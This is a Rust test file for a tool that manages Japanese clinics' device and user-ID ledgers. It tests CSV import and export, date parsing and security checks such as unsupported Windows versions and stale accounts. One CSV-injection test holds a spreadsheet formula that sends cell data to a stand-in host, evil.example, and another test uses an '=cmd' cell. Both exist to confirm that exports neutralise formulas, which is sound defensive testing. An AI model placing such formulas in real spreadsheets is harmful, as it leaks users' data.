use std::collections::BTreeMap;

use super::checks::{self, About, Issue, STALE_DAYS};
use super::columns::{Context, account_columns, device_columns, parse_date};
use super::import::{
    ImportError, MAX_ROWS, Problem, Target, decode, export_csv, map_headers, parse_csv, preview,
};
use crate::calendar::Date;
use crate::model::{Vendor, VendorId};
use crate::schema::ledger::{Account, Device, Remote};

/// The manual's 機器台帳 example with real values in place of its ○ placeholders.
const DEVICES_CSV: &str = "管理番号,メーカー,OS,ソフトウェア,ソフトウェアバージョン,IPアドレス,コンピュータ名,設置場所,利用者,登録日,状態,説明
001,A社,Win11,さくら電子カルテ,2.0,192.168.10.11,Room1のPC1,Room1,a医師（内科）,2020/12/1,稼働,
002,A社,Win11,さくら電子カルテ,1.2,192.168.10.12,Room1のPC2,Room1,b医師（内科）,2020/12/1,停止,メンテナンス
003,A社,Win8,さくら電子カルテ,2.0,192.168.10.21,Room2のPC1,Room2,c医師（外科）,2014/10/1,稼働,
004,B社,Win11,みどり管理システム,5.0.1,192.168.10.31,Room3のPC1,Room3,\"a医師（内科）、b医師（内科）、c医師（外科）\",2021/8/1,稼働,
";

/// The manual's 利用者ID台帳 example (institution form).
const ACCOUNTS_CSV: &str = "No.,所属部署,性,名,電話番号,ユーザID,説明,権限,状態
001,システム管理,山田,太郎,03-1111-0001,yamada@clinic,安全管理責任者,Admin,使用可
002,A科,佐藤,花子,03-1111-0002,sato@clinic,使用者,User,使用可
003,A科,鈴木,一郎,03-1111-0003,suzuki@clinic,使用者/退職予定,User,使用可 (23年3月まで)
004,B科,高橋,次郎,03-1111-0004,takahashi@clinic,使用者,User,使用可
";

fn d(s: &str) -> Date {
    Date::parse_iso(s).unwrap()
}

fn devices_from(csv: &str) -> Vec<Device> {
    let table = parse_csv(&decode(csv.as_bytes()).unwrap()).unwrap();
    let cols = device_columns();
    let mapping = map_headers(&cols, &table[0]);
    let p = preview(&cols, &table, 0, mapping, &Context::default(), &[]).unwrap();
    p.rows.into_iter().map(|r| r.row).collect()
}

#[test]
fn the_manuals_headers_and_common_variants_are_recognised() {
    let cols = device_columns();
    let headers: Vec<String> = DEVICES_CSV
        .lines()
        .next()
        .unwrap()
        .split(',')
        .map(String::from)
        .collect();
    let m = map_headers(&cols, &headers);
    assert!(
        m.targets.iter().all(|t| matches!(t, Target::Column(_))),
        "{m:?}"
    );
    assert!(m.extras().is_empty() && m.refused.is_empty());
    // Variants: full-width letters, spaces, other words for the same column.
    let variants: Vec<String> = [
        "機器番号",
        "ＯＳ",
        "ホスト名",
        "設置 場所",
        "備考",
        "メーカー名",
        "謎の列",
    ]
    .into_iter()
    .map(String::from)
    .collect();
    let m = map_headers(&cols, &variants);
    let keys: Vec<Option<&str>> = m
        .targets
        .iter()
        .map(|t| match t {
            Target::Column(i) => Some(cols[*i].key),
            _ => None,
        })
        .collect();
    assert_eq!(
        keys,
        [
            Some("number"),
            Some("os"),
            Some("computer_name"),
            Some("location"),
            Some("description"),
            Some("maker"),
            None
        ]
    );
    assert_eq!(m.extras(), ["謎の列"], "kept as an extra column");
    // Pharmacies write 利用者属性 where institutions write 所属部署: both read as the same column.
    let acols = account_columns(true);
    let m = map_headers(&acols, &["利用者属性".to_string(), "所属部署".to_string()]);
    assert_eq!(m.targets[0], Target::Column(1));
    assert_eq!(acols[1].key, "department");
    assert_eq!(
        m.targets[1],
        Target::Extra,
        "one file column per ledger column"
    );
}

#[test]
fn a_password_column_is_refused_and_never_read() {
    let csv = "ユーザID,パスワード,Password,権限\nyamada,secret1,secret2,Admin\n";
    let table = parse_csv(csv).unwrap();
    let cols = account_columns(false);
    let m = map_headers(&cols, &table[0]);
    assert_eq!(m.refused, ["パスワード", "Password"]);
    let p = preview(&cols, &table, 0, m, &Context::default(), &[]).unwrap();
    let row = format!("{:?}", p.rows[0].row);
    assert!(!row.contains("secret"), "no secret stored: {row}");
    assert_eq!(p.rows[0].row.user_id, "yamada");
}

#[test]
fn shift_jis_as_japanese_excel_writes_it_is_read() {
    let (sjis, _, _) = encoding_rs::SHIFT_JIS.encode(DEVICES_CSV);
    assert!(std::str::from_utf8(&sjis).is_err(), "really not UTF-8");
    assert_eq!(decode(&sjis).unwrap(), DEVICES_CSV);
    let mut bom = b"\xEF\xBB\xBF".to_vec();
    bom.extend_from_slice(DEVICES_CSV.as_bytes());
    assert_eq!(decode(&bom).unwrap(), DEVICES_CSV);
    assert_eq!(
        decode(b"\x81\x82\xff\xfe\x00\x81"),
        Err(ImportError::Encoding)
    );
    assert_eq!(decode(b"  \n"), Err(ImportError::Empty));
}

#[test]
fn broken_quoting_and_too_many_rows_are_clear_errors() {
    let broken = "管理番号,説明\n001,\"閉じていない\n002,ok\n";
    assert!(matches!(
        parse_csv(broken),
        Err(ImportError::BrokenQuoting { .. })
    ));
    let mut big = String::from("管理番号\n");
    for i in 0..(MAX_ROWS + 5) {
        big.push_str(&format!("{i}\n"));
    }
    assert!(matches!(
        parse_csv(&big),
        Err(ImportError::TooManyRows { .. })
    ));
    let unrelated = parse_csv("a,b\n1,2\n").unwrap();
    let cols = device_columns();
    let m = map_headers(&cols, &unrelated[0]);
    assert_eq!(
        preview(&cols, &unrelated, 0, m, &Context::default(), &[]),
        Err(ImportError::NoKnownColumns)
    );
}

#[test]
fn each_rows_problems_are_shown_and_nothing_typed_is_lost() {
    let csv = "管理番号,状態,登録日,リモートメンテナンス,保守事業者\n001,稼働,2020/13/45,有,さくらシステム\n001,故障中,2021/1/1,たぶん,\n002,稼働,2021年8月1日,無,さくらシステム\n";
    let table = parse_csv(csv).unwrap();
    let cols = device_columns();
    let m = map_headers(&cols, &table[0]);
    let p = preview(
        &cols,
        &table,
        0,
        m,
        &Context::default(),
        &["002".to_string()],
    )
    .unwrap();
    assert_eq!(p.rows.len(), 3);
    let first = &p.rows[0];
    assert!(first.problems.contains(&Problem::BadDate {
        column: "登録日",
        value: "2020/13/45".into()
    }));
    assert!(first.row.description.contains("2020/13/45"), "kept in 説明");
    assert!(first.problems.contains(&Problem::Duplicate("001".into())));
    assert!(
        first
            .problems
            .contains(&Problem::NewVendor("さくらシステム".into()))
    );
    let second = &p.rows[1];
    assert!(
        second
            .problems
            .contains(&Problem::UnknownStatus("故障中".into()))
    );
    assert!(second.problems.contains(&Problem::Duplicate("001".into())));
    assert!(second.row.description.contains("たぶん"));
    let third = &p.rows[2];
    assert_eq!(third.row.registered_on, Some(d("2021-08-01")));
    assert!(
        third.problems.contains(&Problem::Duplicate("002".into())),
        "against the ledger"
    );
    // One new vendor entity for both rows naming it.
    assert_eq!(p.new_vendors.len(), 1);
    assert_eq!(first.row.vendor_id, Some(p.new_vendors[0].id));
    assert_eq!(third.row.vendor_id, Some(p.new_vendors[0].id));
    assert_eq!(third.row.remote, Remote::No);
}

#[test]
fn export_then_import_gives_back_identical_rows_in_utf8_and_shift_jis() {
    let devices = devices_from(DEVICES_CSV);
    assert_eq!(devices.len(), 4);
    assert_eq!(
        devices[3].user,
        "a医師（内科）、b医師（内科）、c医師（外科）"
    );
    let cx = Context::default();
    for sjis in [false, true] {
        let bytes = export_csv(&device_columns(), &devices, &cx, sjis).unwrap();
        let again = devices_from(&decode(&bytes).unwrap());
        let strip = |v: &[Device]| -> Vec<Device> {
            v.iter()
                .map(|d| Device {
                    id: String::new(),
                    ..d.clone()
                })
                .collect()
        };
        assert_eq!(strip(&again), strip(&devices), "shift_jis: {sjis}");
    }
    let table = parse_csv(ACCOUNTS_CSV).unwrap();
    let cols = account_columns(false);
    let m = map_headers(&cols, &table[0]);
    let accounts: Vec<Account> = preview(&cols, &table, 0, m, &cx, &[])
        .unwrap()
        .rows
        .into_iter()
        .map(|r| r.row)
        .collect();
    let bytes = export_csv(&cols, &accounts, &cx, false).unwrap();
    let table2 = parse_csv(&decode(&bytes).unwrap()).unwrap();
    let m2 = map_headers(&cols, &table2[0]);
    let again: Vec<Account> = preview(&cols, &table2, 0, m2, &cx, &[])
        .unwrap()
        .rows
        .into_iter()
        .map(|r| r.row)
        .collect();
    let strip = |v: &[Account]| -> Vec<Account> {
        v.iter()
            .map(|a| Account {
                id: String::new(),
                ..a.clone()
            })
            .collect()
    };
    assert_eq!(strip(&again), strip(&accounts));
    // A cell someone typed as a formula is exported as text (CSV injection) and reads back as typed.
    let formula = vec![Device {
        user: "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")".into(),
        location: "-".into(),
        ..devices[0].clone()
    }];
    let bytes = export_csv(&device_columns(), &formula, &cx, false).unwrap();
    let text = decode(&bytes).unwrap();
    assert!(text.contains("'=HYPERLINK"), "{text}");
    assert!(
        !text.contains(",=HYPERLINK") && !text.contains("\"=HYPERLINK"),
        "{text}"
    );
    let again = devices_from(&text);
    assert_eq!(again[0].user, formula[0].user);
    assert_eq!(again[0].location, "-");
    // A character Shift_JIS lacks is named rather than silently replaced.
    let odd = vec![Device {
        user: "𠮷田".into(),
        ..Device::default()
    }];
    let err = export_csv(&device_columns(), &odd, &cx, true).unwrap_err();
    assert!(err.contains("𠮷"), "{err}");
}

#[test]
fn dates_read_as_people_write_them() {
    assert_eq!(parse_date("2020/12/1").unwrap(), Some(d("2020-12-01")));
    assert_eq!(parse_date("2020-12-01").unwrap(), Some(d("2020-12-01")));
    assert_eq!(parse_date("2020年12月1日").unwrap(), Some(d("2020-12-01")));
    assert_eq!(parse_date(" ").unwrap(), None);
    assert!(parse_date("2023/2/30").is_err());
    assert!(parse_date("令和").is_err());
}

#[test]
fn the_checks_name_the_rows_behind_them() {
    let today = d("2026-11-25");
    let mut devices = devices_from(DEVICES_CSV);
    // 2-①: all filled in the manual's example; one missing user now.
    assert!(checks::inventory(&devices).ok);
    devices[1].user.clear();
    let f = checks::inventory(&devices);
    assert_eq!(f.rows_for(None), [devices[1].id.as_str()]);
    assert_eq!(f.parts.len(), 1);
    assert_eq!(f.parts[0].issue, Issue::NoUser);
    // 2-⑥: the Windows 8 PC of the example (and Windows 10 after 2025-10-14); a patch 90 days old.
    devices[0].last_patch_on = Some(d("2026-08-01"));
    let f = checks::outdated(&devices, today);
    assert_eq!(
        f.rows_for(Some("unsupported")),
        [devices[2].id.as_str()],
        "Win8"
    );
    assert_eq!(
        f.rows_for(Some("unpatched")),
        [devices[0].id.as_str()],
        "unpatched for {STALE_DAYS} days"
    );
    assert!(!f.rows_for(None).contains(&devices[3].id.as_str()));
    let win8 = &f.parts[0].rows[0];
    assert_eq!(
        (
            win8.name.as_str(),
            win8.detail.as_str(),
            win8.location.as_str()
        ),
        ("Room2のPC1", "Win8", "Room2"),
        "named by コンピュータ名, with its OS and place"
    );
    assert_eq!(win8.date, Some(d("2016-01-12")));
    let win10 = Device {
        os: "Windows 10 Pro".into(),
        ..Device::default()
    };
    assert!(checks::outdated(std::slice::from_ref(&win10), d("2025-10-14")).ok);
    assert!(!checks::outdated(&[win10], d("2025-10-15")).ok);
    // 2-②: a vendor-maintained device with remote maintenance unknown.
    devices[3].vendor_id = Some(VendorId::generate());
    assert_eq!(
        checks::remote_maintenance(&devices).rows_for(None),
        [devices[3].id.as_str()]
    );
    devices[3].remote = Remote::Yes;
    assert!(checks::remote_maintenance(&devices).ok);
    // 2-③: vendors without their MDS/SDS.
    let mut vendors = BTreeMap::new();
    for (name, got) in [("A社", true), ("B社", false)] {
        let v = Vendor {
            id: VendorId::generate(),
            name: name.into(),
            systems: String::new(),
            phone: String::new(),
            contact_person: String::new(),
            email: String::new(),
            hours: String::new(),
            mds_received_on: got.then(|| d("2026-04-01")),
            mds_version: String::new(),
            remote: Default::default(),
        };
        vendors.insert(v.id.to_string(), v);
    }
    let f = checks::mds_sds(&vendors);
    assert!(!f.ok);
    let named: Vec<&str> = f.parts[0].rows.iter().map(|e| e.name.as_str()).collect();
    assert_eq!(named, ["B社"]);
    // 2-④, 2-⑤ on the user-ID example.
    let table = parse_csv(ACCOUNTS_CSV).unwrap();
    let cols = account_columns(false);
    let m = map_headers(&cols, &table[0]);
    let mut accounts: Vec<Account> = preview(&cols, &table, 0, m, &Context::default(), &[])
        .unwrap()
        .rows
        .into_iter()
        .map(|r| r.row)
        .collect();
    let f = checks::admins(&accounts);
    assert_eq!(f.rows_for(None), [accounts[0].id.as_str()]);
    assert!(f.ok);
    assert_eq!(f.parts[0].rows[0].name, "山田 太郎");
    assert_eq!(f.parts[0].rows[0].detail, "yamada@clinic");
    // A shared administrator account with no person's name is flagged on its own.
    let mut shared = accounts.clone();
    shared[1].family_name.clear();
    shared[1].given_name.clear();
    shared[1].privilege = "Admin".into();
    let f = checks::admins(&shared);
    assert!(!f.ok);
    assert_eq!(f.rows_for(Some("unnamed")), [shared[1].id.as_str()]);
    assert_eq!(
        f.part(Issue::UnnamedAdmin).unwrap().rows[0].name,
        "sato@clinic"
    );
    accounts[2].planned_end_on = Some(d("2023-03-31"));
    accounts[3].last_used_on = Some(d("2026-06-01"));
    accounts[1].last_used_on = Some(d("2026-11-20"));
    let f = checks::stale_accounts(&accounts, today);
    assert_eq!(f.rows_for(Some("ended")), [accounts[2].id.as_str()]);
    assert_eq!(f.rows_for(Some("unused")), [accounts[3].id.as_str()]);
    assert_eq!(
        f.part(Issue::PastPlannedEnd).unwrap().rows[0].date,
        Some(d("2023-03-31"))
    );
    accounts[2].status = "停止".into();
    assert_eq!(
        checks::stale_accounts(&accounts, today)
            .rows_for(None)
            .len(),
        1
    );
    // 2-⑩.
    assert_eq!(
        checks::months_until_r9(today).about,
        About::MonthsToR9 { months: 4 }
    );
    assert!(checks::months_until_r9(d("2027-04-01")).ok);
}

#[test]
fn the_header_row_is_found_below_title_and_blank_rows() {
    let cols = device_columns();
    let t = |rows: &[&[&str]]| -> Vec<Vec<String>> {
        rows.iter()
            .map(|r| r.iter().map(|c| c.to_string()).collect())
            .collect()
    };
    let table = t(&[
        &["みどり薬局グループ 機器台帳（令和8年11月更新）", "", ""],
        &["", "", ""],
        &["作成: 薬局長", "", ""],
        &["No.", "機器名", "設置場所"],
        &["※ 記入例", "受付PC", "受付"],
        &["1", "調剤PC1", "調剤室"],
    ]);
    assert_eq!(
        crate::ledger::import::find_header_row(&cols, &table),
        Some(3)
    );
    let m = map_headers(&cols, &table[3]);
    let p = preview(&cols, &table, 3, m, &Context::default(), &[]).unwrap();
    assert_eq!(p.header, 3);
    assert_eq!(
        p.notes_rows,
        [5],
        "a notes row under the headers is no device"
    );
    assert_eq!(p.rows.len(), 1, "the rows below the header only");
    assert_eq!(p.rows[0].row.computer_name, "調剤PC1");
    assert_eq!(p.rows[0].line, 6, "lines count from the file's first row");
    // Nothing like a header in the first 20 rows: said so.
    let none = t(&[&["題名"], &["何か"]]);
    assert_eq!(crate::ledger::import::find_header_row(&cols, &none), None);
}

#[test]
fn headers_match_in_the_forms_clinics_write_them() {
    let cols = device_columns();
    for (header, key) in [
        ("機器名", "computer_name"),
        ("ﾎｽﾄ名", "computer_name"),
        ("ＩＰアドレス", "ip_address"),
        ("購入日", "registered_on"),
        ("保守会社", "vendor"),
        ("Ｏ Ｓ", "os"),
    ] {
        let found = crate::ledger::columns::recognise(&cols, header).map(|i| cols[i].key);
        assert_eq!(found, Some(key), "{header}");
    }
    // A header that only resembles a column is not taken for it.
    assert_eq!(crate::ledger::columns::recognise(&cols, "管理者"), None);
}

#[test]
fn japanese_era_dates_parse() {
    use crate::calendar::Date;
    use crate::ledger::columns::parse_date;
    for (text, (y, m, d)) in [
        ("令和2年6月23日", (2020, 6, 23)),
        ("令和元年5月1日", (2019, 5, 1)),
        ("R2.6.23", (2020, 6, 23)),
        ("r02/06/23", (2020, 6, 23)),
        ("H30/4/1", (2018, 4, 1)),
        ("平成31年4月30日", (2019, 4, 30)),
        ("Ｒ２．６．２３", (2020, 6, 23)),
        ("2020/06/23", (2020, 6, 23)),
    ] {
        assert_eq!(
            parse_date(text).unwrap(),
            Some(Date::new(y, m, d).unwrap()),
            "{text}"
        );
    }
    for bad in ["令和2年13月1日", "R100.1.1", "H30/4", "令和"] {
        assert!(parse_date(bad).is_err(), "{bad}");
    }
}

#[test]
fn widths_fold_as_nfkc_folds_them() {
    use crate::ledger::columns::fold_width;
    for (from, to) in [
        ("ﾎｽﾄ名", "ホスト名"),
        ("ｶﾞｰｾﾞ ﾊﾟｿｺﾝ ｳﾞｪﾙﾃﾞ ﾂﾞ ﾃﾞｰﾀ", "ガーゼ パソコン ヴェルデ ヅ データ"),
        ("ＩＰアドレス　ＰＣ１", "IPアドレス PC1"),
        ("｢ｷｬﾉﾝ｣､ｯ", "「キャノン」、ッ"),
        ("ｱﾞ", "ア\u{3099}"),
        ("コンピュータ名", "コンピュータ名"),
    ] {
        assert_eq!(fold_width(from), to, "{from}");
    }
}

#[test]
fn numbers_and_dates_sort_as_people_read_them() {
    use crate::ledger::columns::natural_cmp;
    let mut numbers = vec![
        "10", "PC-10", "2", "PC-2", "1", "PC-002", "ＰＣ-3", "100", "",
    ];
    numbers.sort_by(|a, b| natural_cmp(a, b));
    assert_eq!(
        numbers,
        [
            "", "1", "2", "10", "100", "PC-002", "PC-2", "ＰＣ-3", "PC-10"
        ]
    );
    let mut dates = vec!["2024/04/01", "2018/12/31", "2020/06/23"];
    dates.sort_by(|a, b| natural_cmp(a, b));
    assert_eq!(dates, ["2018/12/31", "2020/06/23", "2024/04/01"]);
}

#[test]
fn an_import_needs_a_column_that_tells_rows_apart() {
    let cols = device_columns();
    let headers = |h: &[&str]| h.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    assert!(!map_headers(&cols, &headers(&["設置場所", "OS"])).identifies(&cols));
    assert!(map_headers(&cols, &headers(&["設置場所", "機器名"])).identifies(&cols));
    assert!(map_headers(&cols, &headers(&["管理番号"])).identifies(&cols));
    let accounts = crate::ledger::columns::account_columns(false);
    assert!(map_headers(&accounts, &headers(&["ユーザーID"])).identifies(&accounts));
}

#[test]
fn a_header_that_only_resembles_a_column_is_a_guess_kept_as_extra() {
    let cols = device_columns();
    let headers: Vec<String> = ["機器名", "管理者", "設置場所（部屋）", "価格", "", "型番"]
        .into_iter()
        .map(String::from)
        .collect();
    let m = map_headers(&cols, &headers);
    let key = |i: usize| cols[i].key;
    assert_eq!(m.targets[0], Target::Column(6), "機器名 is コンピュータ名");
    assert_eq!(key(6), "computer_name");
    // 管理者 is not 利用者: kept, with 利用者 offered.
    assert_eq!(m.targets[1], Target::Extra);
    assert_eq!(m.guesses[1].map(key), Some("user"));
    assert_eq!(m.targets[2], Target::Extra);
    assert_eq!(m.guesses[2].map(key), Some("location"));
    assert_eq!((m.targets[3], m.guesses[3]), (Target::Extra, None));
    assert_eq!(m.names[4], "列E", "a blank header is named by its letter");
    assert!(matches!(m.targets[5], Target::Column(i) if key(i) == "model"));
    // The person takes the guess; a ledger column chosen twice keeps the earlier file column as extra.
    let mut m = m;
    m.set(1, Target::Column(m.guesses[1].unwrap()));
    assert!(matches!(m.targets[1], Target::Column(i) if key(i) == "user"));
    m.set(3, Target::Column(6));
    assert_eq!(
        (m.targets[0], m.targets[3]),
        (Target::Extra, Target::Column(6))
    );
}

#[test]
fn extra_columns_are_kept_and_exported_with_types_and_order() {
    let csv = "管理番号,機器名,資産区分,購入日,台数,備考2\n10,PC10,リース,2020/06/23,3,=cmd\n2,PC2,,R2.6.1,1,\n";
    let table = parse_csv(csv).unwrap();
    let cols = device_columns();
    let m = map_headers(&cols, &table[0]);
    assert_eq!(m.extras(), ["資産区分", "台数", "備考2"]);
    let p = preview(&cols, &table, 0, m, &Context::default(), &[]).unwrap();
    let mut rows: Vec<Device> = p.rows.into_iter().map(|r| r.row).collect();
    assert_eq!(rows[0].extra["資産区分"], "リース");
    assert_eq!(rows[0].extra["備考2"], "=cmd");
    assert!(
        !rows[1].extra.contains_key("資産区分"),
        "empty cells add nothing"
    );
    rows.sort_by(|a, b| super::columns::natural_cmp(&a.number, &b.number));
    let t = super::import::export_table(&cols, &rows, &Context::default());
    use crate::export::Cell;
    let header: Vec<String> = t[0].iter().map(Cell::text).collect();
    assert_eq!(&header[header.len() - 3..], ["備考2", "台数", "資産区分"]);
    assert_eq!(t[1][0], Cell::Number(2.0), "管理番号 2 first, as a number");
    let registered = cols.iter().position(|c| c.key == "registered_on").unwrap();
    assert_eq!(t[2][registered], Cell::Date(d("2020-06-23")));
    assert_eq!(
        t[2][header.len() - 3],
        Cell::Text("'=cmd".into()),
        "never a formula"
    );
    // Read back: the same rows, extras included.
    let csv = String::from_utf8(
        export_csv(&cols, &rows, &Context::default(), false).unwrap()[3..].to_vec(),
    )
    .unwrap();
    let again = devices_from(&csv);
    let strip = |r: &Device| Device {
        id: String::new(),
        ..r.clone()
    };
    assert_eq!(
        again.iter().map(strip).collect::<Vec<_>>(),
        rows.iter().map(strip).collect::<Vec<_>>()
    );
}

#[test]
fn plain_numbers_become_numbers_and_the_rest_stays_text() {
    use crate::export::Cell;
    for (text, number) in [("42", Some(42.0)), ("3.5", Some(3.5)), ("-7", Some(-7.0))] {
        assert_eq!(
            Cell::from_text(text),
            Cell::Number(number.unwrap()),
            "{text}"
        );
    }
    for text in [
        "007",
        "2.0",
        "1e3",
        "192.168.0.1",
        "",
        "03-1111-0001",
        "+5",
        "Win11",
    ] {
        assert!(matches!(Cell::from_text(text), Cell::Text(_)), "{text}");
    }
}

#[test]
fn problems_and_notices_are_grouped_with_their_lines() {
    let mut csv = String::from("管理番号,機器名,購入日,保守業者\n");
    for i in 1..=140 {
        csv.push_str(&format!("{i},PC{i},2020/01/01,さくら保守\n"));
    }
    csv.push_str("1,PC-dup,いつか,\n7,PC-dup2,2020/13/1,\n");
    let table = parse_csv(&csv).unwrap();
    let cols = device_columns();
    let m = map_headers(&cols, &table[0]);
    let p = preview(&cols, &table, 0, m, &Context::default(), &[]).unwrap();
    let groups = p.groups();
    assert_eq!(
        p.with_problems(),
        4,
        "the new vendor is a notice, not a problem"
    );
    assert!(groups[0].problem && groups[1].problem);
    let dates = groups.iter().find(|g| g.ja.contains("日付")).unwrap();
    assert_eq!(dates.lines, [142, 143]);
    assert_eq!(dates.examples, ["いつか", "2020/13/1"]);
    let dup = groups.iter().find(|g| g.ja.contains("重複")).unwrap();
    assert_eq!(dup.lines, [2, 8, 142, 143]);
    let vendor = groups.last().unwrap();
    assert!(!vendor.problem && vendor.ja.contains("さくら保守"));
    assert_eq!(vendor.lines.len(), 140, "one group, not 140 lines");
}

#[test]
fn the_sheet_holding_the_ledger_is_found() {
    let cols = device_columns();
    let t = |rows: &[&[&str]]| -> Vec<Vec<String>> {
        rows.iter()
            .map(|r| r.iter().map(|c| c.to_string()).collect())
            .collect()
    };
    let notes = t(&[&["更新履歴"], &["2026/11/01", "作成"]]);
    let ledger = t(&[
        &["機器台帳"],
        &["管理番号", "機器名", "OS"],
        &["1", "PC1", "Win11"],
    ]);
    assert_eq!(super::import::find_sheet(&cols, &[&notes, &ledger]), (1, 1));
    assert_eq!(super::import::find_sheet(&cols, &[&notes]), (0, 0));
}

/// The pharmacist's ledger of issue 19: 200 devices, Windows 7 and Windows 8 hidden among Windows 10 and 11,
/// only the software version left empty.
fn two_hundred_devices() -> Vec<Device> {
    (1..=200)
        .map(|i| {
            let os = match i {
                17 => "Windows 8",
                33 => "Windows 7 Professional",
                _ if i % 5 == 0 => "Windows 10 Pro",
                _ => "Windows 11 Pro",
            };
            Device {
                id: format!("row-{i}"),
                number: format!("{i}"),
                os: os.into(),
                computer_name: if i == 33 {
                    String::new()
                } else {
                    format!("PC-{i:03}")
                },
                location: format!("調剤室{}", i % 4),
                user: "薬剤師".into(),
                status: "稼働".into(),
                // Patched recently, except three Windows 11 PCs and the Windows 8 one.
                last_patch_on: Some(if [2, 3, 4, 17].contains(&i) {
                    d("2026-05-01")
                } else {
                    d("2026-11-01")
                }),
                ..Device::default()
            }
        })
        .collect()
}

#[test]
fn unsupported_systems_come_first_earliest_end_first_then_the_rest_as_a_count() {
    let today = d("2026-11-25");
    let devices = two_hundred_devices();
    let f = checks::outdated(&devices, today);
    assert!(!f.ok);
    let issues: Vec<Issue> = f.parts.iter().map(|p| p.issue).collect();
    assert_eq!(issues, [Issue::UnsupportedOs, Issue::Unpatched]);
    let unsupported = &f.parts[0].rows;
    // Windows 8 (2016-01-12), then Windows 7 (2020-01-14), then the 40 Windows 10 (2025-10-14) by name.
    assert_eq!(unsupported.len(), 42);
    assert_eq!(unsupported[0].name, "PC-017");
    assert_eq!(unsupported[0].detail, "Windows 8");
    assert_eq!(unsupported[0].date, Some(d("2016-01-12")));
    assert_eq!(unsupported[0].location, "調剤室1");
    assert_eq!(
        unsupported[1].name, "33",
        "no コンピュータ名: named by 管理番号"
    );
    assert_eq!(unsupported[1].date, Some(d("2020-01-14")));
    assert_eq!(unsupported[2].name, "PC-005");
    assert_eq!(unsupported[41].name, "PC-200");
    assert!(
        unsupported.windows(2).all(|w| w[0].date <= w[1].date),
        "earliest support end first"
    );
    // The rest: the three unpatched Windows 11 PCs (Windows 8 is already listed above).
    assert_eq!(f.rows_for(Some("unpatched")), ["row-2", "row-3", "row-4"]);
    assert_eq!(f.rows_for(None).len(), 45);
    assert_eq!(f.rows_for(Some("nonsense")), Vec::<&str>::new());
    // A device past its end but retired (廃棄) is not named.
    let mut retired = devices.clone();
    retired[16].status = "廃棄".into();
    assert_eq!(
        checks::outdated(&retired, today).parts[0].rows[0].name,
        "33"
    );
}

#[test]
fn the_inventory_names_only_the_fields_that_are_empty() {
    let mut devices = two_hundred_devices();
    for dev in &mut devices {
        dev.software_version.clear();
    }
    let f = checks::inventory(&devices);
    assert!(!f.ok);
    assert_eq!(
        f.parts.len(),
        1,
        "only the version is missing: {:?}",
        f.parts.iter().map(|p| p.issue).collect::<Vec<_>>()
    );
    assert_eq!(f.parts[0].issue, Issue::NoVersion);
    assert_eq!(f.parts[0].rows.len(), 200);
    assert_eq!(
        f.about,
        About::Devices {
            in_use: 200,
            remote: 0
        }
    );
    // Two fields empty somewhere: a count for each, a device counted under each field it lacks.
    devices[9].location.clear();
    devices[9].user.clear();
    devices[10].user.clear();
    let f = checks::inventory(&devices);
    let counts: Vec<(&str, usize)> = f
        .parts
        .iter()
        .map(|p| (p.issue.key(), p.rows.len()))
        .collect();
    assert_eq!(counts, [("location", 1), ("user", 2), ("version", 200)]);
    assert_eq!(f.rows_for(Some("user")), ["row-10", "row-11"]);
    for dev in &mut devices {
        dev.software_version = "1.0".into();
    }
    devices[9].location = "受付".into();
    devices[9].user = "事務".into();
    devices[10].user = "事務".into();
    assert!(checks::inventory(&devices).ok);
}

#[test]
fn every_column_has_an_english_header() {
    use crate::ledger::columns::{account_columns, device_columns};
    let mut headers: Vec<(&str, &str)> = device_columns()
        .iter()
        .map(|c| (c.key, c.header_en))
        .collect();
    for pharmacy in [false, true] {
        headers.extend(
            account_columns(pharmacy)
                .iter()
                .map(|c| (c.key, c.header_en)),
        );
    }
    for (key, en) in headers {
        assert!(!en.is_empty() && en.is_ascii(), "{key}: {en:?}");
    }
}
